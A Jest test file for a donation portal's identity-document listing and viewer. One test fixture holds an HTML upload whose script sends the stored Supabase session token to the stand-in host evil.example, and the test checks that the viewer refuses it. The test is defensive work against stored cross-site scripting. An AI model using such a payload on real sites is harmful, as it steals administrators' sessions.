import { setSupabaseClient } from '@donation-network/portal-session';
import { RANGE_NOT_SATISFIABLE } from '@donation-network/portal-data';
import { UPLOAD_FILE_MESSAGES } from '@donation-network/shared-rules';
import { fakeSupabase, fakeSupabaseClient } from '@donation-network/portal-session/testing';
import { fetchIdentityDocuments, showDocumentInTab } from './verification-documents';

const documentRow = {
  id: 'd2',
  user_id: 'u9',
  kind: 'identity',
  object_path: 'u9/passport.png',
  file_name: 'passport.png',
  content_type: 'image/png',
  size_bytes: 1024,
  status: 'pending',
  created_at: '2026-11-20T10:00:00Z',
};

test("fetchIdentityDocuments reads one page of the status, oldest first, with the total and each owner's name", async () => {
  const calls = fakeSupabase(
    { data: [documentRow], error: null, status: 200, count: 21 },
    { data: [{ id: 'u9', full_name: ' Grace Hopper ', user_type: 'donor' }], error: null, status: 200 },
  );
  const page = await fetchIdentityDocuments('pending', 2);
  expect(calls).toEqual(
    expect.arrayContaining([
      ['select', expect.stringContaining('object_path'), { count: 'exact' }],
      ['eq', 'kind', 'identity'],
      ['eq', 'status', 'pending'],
      ['order', 'created_at', { ascending: true }],
      ['order', 'id'],
      ['range', 20, 39],
      ['in', 'id', ['u9']],
    ]),
  );
  expect(page.total).toBe(21);
  expect(page.items).toEqual([
    expect.objectContaining({ id: 'd2', fileName: 'passport.png', ownerName: 'Grace Hopper', ownerType: 'donor' }),
  ]);
});

test('an empty page keeps the total and asks for no owners', async () => {
  const calls = fakeSupabase({ data: [], error: null, status: 200, count: 0 });
  expect(await fetchIdentityDocuments('approved', 1)).toEqual({ items: [], total: 0 });
  expect(calls.filter(([method]) => method === 'in')).toEqual([]);
});

test('a page past the end is empty, not an error', async () => {
  fakeSupabase({ error: { message: 'Requested range not satisfiable', code: RANGE_NOT_SATISFIABLE }, status: 416 });
  expect(await fetchIdentityDocuments('pending', 5)).toEqual({ items: [], total: 0 });
});

describe('showDocumentInTab', () => {
  const stored = (blob: Blob) =>
    setSupabaseClient(fakeSupabaseClient({ storage: { from: () => ({ download: async () => ({ data: blob, error: null }) }) } }));
  const createObjectURL = jest.fn((blob: Blob) => `blob:portal/${blob.type}`);
  beforeEach(() => Object.assign(URL, { createObjectURL, revokeObjectURL: jest.fn() }));
  afterAll(() => setSupabaseClient(null));

  test("refuses an uploaded page declared as an image instead of opening it in the admin's origin", async () => {
    stored(new Blob(['<html><script>fetch("//evil.example/?" + localStorage.getItem("sb"))</script></html>'], { type: 'text/html' }));
    const tab = { location: { href: '' } } as Window;
    await expect(showDocumentInTab('u9/passport.html', tab)).rejects.toThrow(UPLOAD_FILE_MESSAGES.cannotOpen);
    expect(tab.location.href).toBe('');
    expect(createObjectURL).not.toHaveBeenCalled();
  });

  test('shows a real PNG as image/png, the type its bytes prove', async () => {
    stored(new Blob([new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0])], { type: 'text/html' }));
    const tab = { location: { href: '' } } as Window;
    await showDocumentInTab('u9/passport.png', tab);
    expect(tab.location.href).toBe('blob:portal/image/png');
  });
});
